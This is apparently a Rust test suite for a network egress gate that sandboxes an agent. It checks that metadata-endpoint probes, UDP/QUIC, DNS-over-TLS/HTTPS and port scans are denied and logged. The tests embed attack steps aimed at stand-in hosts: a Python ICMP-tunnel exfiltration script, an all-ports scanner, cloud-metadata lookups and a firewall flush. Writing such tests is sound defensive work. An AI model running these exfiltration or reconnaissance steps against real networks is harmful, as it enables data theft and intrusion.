//! Everything that is neither a look-up nor a connection to port 443: it leads nowhere, and it is told.

use crate::{
    agent::dial,
    internet::{ATTACKER, ATTACKER_V6, output},
    world::{World, inside},
};
use hickory_proto::{
    op::{Message, Query, ResponseCode},
    rr::{Name, RecordType},
};
use hydra_core::egress::{DenyReason, gate::GateLine};
use std::{
    io::{self, Read as _, Write as _},
    net::{IpAddr, SocketAddr, UdpSocket},
    time::{Duration, Instant},
};

#[test]
#[ignore = "needs namespaces"]
fn rows_22_and_25_other_ports_are_refused_at_once_in_both_families() {
    for at in ["11.0.0.66:80", "11.0.0.66:8080", "169.254.169.254:80", "[2a00::66]:80", "[fd00:ec2::254]:80"] {
        let world = World::new();
        let at: SocketAddr = at.parse().unwrap();
        let (refused, took) = world.attack(move || {
            let begun = Instant::now();
            (dial(at).map(drop), begun.elapsed())
        });
        assert!(refused.is_err() && took < Duration::from_secs(1), "{at}: {refused:?}");
        let denial = world.one_refusal();
        let seen = (denial.reason, denial.dst, denial.dport, denial.proto.as_deref(), denial.uid);
        assert_eq!(seen, (DenyReason::PacketTcp, Some(at.ip()), Some(at.port()), Some("tcp"), Some(0)));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn rows_22_and_25_port_443_of_an_address_without_a_name_ends_at_the_gate() {
    for at in ["169.254.169.254", "2a00::66", "fd00:ec2::254"] {
        let world = World::new();
        let ip: IpAddr = at.parse().unwrap();
        world.shake(ip, at).map(drop).unwrap_err();
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.dst, denial.dport), (DenyReason::TlsNoSni, Some(ip), Some(443)));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_25_the_names_of_cloud_metadata_do_not_exist() {
    for name in ["metadata.google.internal", "instance-data.ec2.internal", "metadata.azure.internal"] {
        let world = World::new();
        assert_eq!(world.ask(name, RecordType::A), (ResponseCode::NXDomain, None));
        let denial = world.one_refusal();
        assert_eq!((denial.reason, denial.host.as_deref()), (DenyReason::DnsNotAllowed, Some(name)));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_24_quic_and_any_other_udp() {
    for at in ["11.0.0.66:443", "11.0.0.66:123", "11.0.0.66:51820", "[2a00::66]:443"] {
        nothing_of_udp(at);
    }
}

/// A datagram: it leads nowhere, and it is told once.
#[track_caller]
fn nothing_of_udp(at: &str) {
    let world = World::new();
    let at: SocketAddr = at.parse().unwrap();
    world.attack(move || {
        let socket = UdpSocket::bind(if at.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" }).unwrap();
        // The kernel says no at once.
        _ = socket.send_to(b"x", at);
    });
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.dst, denial.dport), (DenyReason::PacketUdp, Some(at.ip()), Some(at.port())));
    world.internet.saw_nothing();
}

#[test]
#[ignore = "needs namespaces"]
fn row_23_icmp() {
    let to = [
        ("AF_INET", "IPPROTO_ICMP", IpAddr::from(ATTACKER)),
        ("AF_INET6", "IPPROTO_ICMPV6", IpAddr::from(ATTACKER_V6)),
    ];
    for (family, protocol, at) in to {
        let world = World::new();
        // An echo request that carries data out, as a tunnel's would.
        let kind = if at.is_ipv4() { 8 } else { 128 };
        let script = format!(
            "import socket, struct
data = b'data out'
head = struct.pack('!BBHHH', {kind}, 0, 0, 7, 1)
total = sum(struct.unpack('!8H', head + data))
total = (total >> 16) + (total & 0xffff)
s = socket.socket(socket.{family}, socket.SOCK_RAW, socket.{protocol})
try: s.sendto(struct.pack('!BBHHH', {kind}, 0, ~(total + (total >> 16)) & 0xffff, 7, 1) + data, ('{at}', 0))
except OSError: pass
print('sent')"
        );
        let (agent, open) = (world.holder.id(), world.internet.open());
        let before = world.internet.packets("open");
        for id in [open, agent] {
            let ping = inside(id, "python3", &["-c", &script]).output().unwrap();
            assert!(
                String::from_utf8_lossy(&ping.stdout).contains("sent"),
                "{}",
                String::from_utf8_lossy(&ping.stderr)
            );
        }
        assert!(world.internet.packets("open") > before, "unfenced it arrives");
        let denial = world.one_refusal();
        let seen = (denial.reason, denial.dst, denial.proto.as_deref());
        assert_eq!(seen, (DenyReason::PacketOther, Some(at), Some("icmp")));
        world.internet.saw_nothing();
    }
}

#[test]
#[ignore = "needs namespaces"]
fn row_18_a_look_up_over_tcp_is_answered_by_the_gate() {
    let world = World::new();
    let code = world.attack(|| {
        let mut stream = dial((ATTACKER, 53))?;
        let mut message = Message::query();
        message.add_query(Query::query(Name::from_ascii("evil.test.").unwrap(), RecordType::A));
        let bytes = message.to_vec().unwrap();
        stream.write_all(&[&u16::try_from(bytes.len()).unwrap().to_be_bytes(), bytes.as_slice()].concat())?;
        let mut length = [0; 2];
        stream.read_exact(&mut length)?;
        let mut answer = vec![0; u16::from_be_bytes(length).into()];
        stream.read_exact(&mut answer)?;
        io::Result::Ok(Message::from_vec(&answer).unwrap().metadata.response_code)
    });
    assert_eq!(code.unwrap(), ResponseCode::NXDomain);
    let denial = world.one_refusal();
    let seen = (denial.reason, denial.host.as_deref(), denial.proto.as_deref());
    assert_eq!(seen, (DenyReason::DnsNotAllowed, Some("evil.test"), Some("tcp")));
    world.internet.saw_nothing();
}

#[test]
#[ignore = "needs namespaces"]
fn row_18_dot_doq_mdns_llmnr_and_doh_lead_nowhere() {
    // DNS over QUIC, mDNS, LLMNR.
    for at in ["11.0.0.66:853", "224.0.0.251:5353", "224.0.0.252:5355"] {
        nothing_of_udp(at);
    }
    // DNS over TLS.
    let world = World::new();
    world.attack(|| dial((ATTACKER, 853)).map(drop)).unwrap_err();
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.dport), (DenyReason::PacketTcp, Some(853)));
    world.internet.saw_nothing();
    // DNS over HTTPS is HTTPS to a name that is not allowed.
    let world = World::new();
    world.shake(ATTACKER, "dns.evil.test").map(drop).unwrap_err();
    let denial = world.one_refusal();
    assert_eq!((denial.reason, denial.sni.as_deref()), (DenyReason::TlsSniNotAllowed, Some("dns.evil.test")));
    world.internet.saw_nothing();
}

/// Every port of an address that somebody finds open.
pub(crate) fn scan(id: u32, address: &str) -> String {
    let script = format!(
        "import socket
found = []
for port in range(1, 65536):
    s = socket.socket()
    s.settimeout(2)
    # A socket that happens upon its own port is connected to itself.
    if s.connect_ex(('{address}', port)) == 0 and s.getsockname() != s.getpeername(): found.append(port)
    s.close()
print(found)"
    );
    let output = inside(id, "python3", &["-c", &script]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

#[test]
#[ignore = "needs namespaces"]
fn row_29_a_scan_of_all_ports_finds_443_and_53() {
    let world = World::new();
    assert_eq!(scan(world.internet.open(), "11.0.0.66"), "[443]", "unfenced it finds what the attacker's host offers");
    assert!(world.internet.packets("open") >= 65_535);
    let agent = world.holder.id();
    assert_eq!(scan(agent, "11.0.0.66"), "[53, 443]");
    assert_eq!(scan(agent, "127.0.0.1"), "[53, 443]", "no port of the gate's own");
    world.internet.saw_nothing();
    // So many that the kernel tells of a part: each was refused as a packet, but for those of port 443, which were taken and said nothing.
    let told = world.lines();
    let reasons =
        told.iter().filter_map(|line| if let GateLine::Denied(denial) = line { Some(denial.reason) } else { None });
    let mut reasons: Vec<_> = reasons.collect();
    reasons.sort_unstable();
    reasons.dedup();
    reasons.retain(|reason| *reason != DenyReason::TlsHelloTimeout);
    assert_eq!(reasons, [DenyReason::PacketTcp]);
}

#[test]
#[ignore = "needs namespaces"]
fn the_namespace_has_no_way_out_even_without_a_table() {
    let world = World::new();
    let id = world.holder.id();
    assert!(!output(id, "ip -o link show up").lines().any(|line| !line.contains(": lo:")));
    // Whoever could flush the rules (nobody there can) would still find that every address is this very namespace.
    crate::world::run(id, "nft flush ruleset");
    let refused = world.agent(|| dial((ATTACKER, 80)).map(drop));
    assert!(refused.is_err(), "{refused:?}");
    world.internet.saw_nothing();
}
